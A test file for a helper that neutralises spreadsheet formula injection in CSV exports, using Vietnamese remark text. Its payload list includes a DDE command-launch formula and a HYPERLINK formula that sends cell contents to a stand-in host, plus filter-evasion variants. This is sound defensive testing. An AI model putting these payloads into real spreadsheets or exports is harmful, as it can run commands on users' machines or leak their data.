import { expect, test } from 'vitest';
import { csvField, neutralCell } from './neutral-cell.ts';

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '﹦1+1',
  '−1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=HYPERLINK("http://example.vn?x="&A1,"bấm vào đây")',
  '\ttext',
];

test('a formula in a remark or a title opens as text', () => {
  for (const formula of FORMULAS) {
    const cell = neutralCell(formula);
    expect(cell.startsWith("'"), JSON.stringify(formula)).toBe(true);
    expect(cell.slice(1)).toBe(formula.replaceAll('\u0000', ''));
  }
});

test('what people write stays as they wrote it', () => {
  for (const text of [
    'Cán bộ nhiệt tình.',
    '5 = tốt',
    'a-b',
    'Quầy 3: +1 cán bộ',
    '',
    "'đã có dấu",
    '10 %',
  ]) {
    expect(neutralCell(text)).toBe(text);
  }
});

test('a field of a CSV file cannot end itself or begin a new line of the table', () => {
  expect(csvField('a","=1+1')).toBe('"a"",""=1+1"');
  expect(csvField('=1+1\n"x"')).toBe(`"'=1+1\n""x"""`);
  for (const formula of FORMULAS) expect(csvField(formula).startsWith(`"'`)).toBe(true);
});
